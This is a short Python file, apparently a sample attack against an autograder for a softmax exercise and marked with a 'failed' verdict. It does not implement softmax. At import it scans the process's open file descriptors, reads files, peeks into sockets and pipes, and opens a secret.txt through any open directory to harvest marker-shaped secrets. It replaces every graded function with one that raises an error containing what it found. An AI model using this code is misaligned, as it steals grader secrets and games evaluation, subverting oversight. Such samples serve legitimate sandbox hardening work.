# verdict: failed
# exercise: exercise07_softmax
# example: open descriptors
# Reads whatever is open already: files, pipes, sockets, folders from which others can be reached.

import fcntl
import os
import re
import socket
import stat

FOUND = []


def search(data):
    FOUND.extend(re.findall(rb"MARKER\{[^}\\]+\}", data))


for number in range(1024):
    try:
        mode = os.fstat(number).st_mode
        search(os.readlink(f"/proc/self/fd/{number}").encode())
    except OSError:
        continue
    try:
        if stat.S_ISREG(mode):
            search(os.pread(number, 1 << 20, 0))
        elif stat.S_ISDIR(mode):
            search(os.read(os.open("@COURSE@"[1:] + "/secret.txt", os.O_RDONLY, dir_fd=number), 4096))
        elif stat.S_ISSOCK(mode):
            search(socket.socket(fileno=os.dup(number)).recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        elif stat.S_ISFIFO(mode) and number > 2:
            fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
            search(os.read(number, 1 << 16))
    except OSError as error:
        print(number, type(error).__name__)


def attack(*_args, **_kwargs):
    raise RuntimeError(f"found {FOUND}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
